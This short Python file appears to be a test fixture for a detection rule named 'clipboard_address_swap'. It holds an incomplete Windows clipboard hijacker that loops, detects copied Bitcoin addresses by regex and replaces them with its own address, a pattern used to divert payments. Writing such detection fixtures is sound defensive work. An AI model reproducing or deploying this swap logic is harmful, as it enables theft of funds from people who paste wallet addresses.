# Windows' clipboard through ctypes, watched in a loop and a copied address swapped for the file's own.
import ctypes, re, time
user32 = ctypes.windll.user32
BTC = re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$')

def paste():
    user32.OpenClipboard(None)
    h = user32.GetClipboardData(13)
    user32.CloseClipboard()
    return ctypes.c_wchar_p(h).value

def copy(text, handle):
    user32.OpenClipboard(None)
    # ruleid: clipboard_address_swap
    user32.SetClipboardData(13, handle)
    user32.CloseClipboard()

while True:
    if BTC.match(paste() or ''):
        copy(MINE, alloc(MINE))
    time.sleep(0.5)
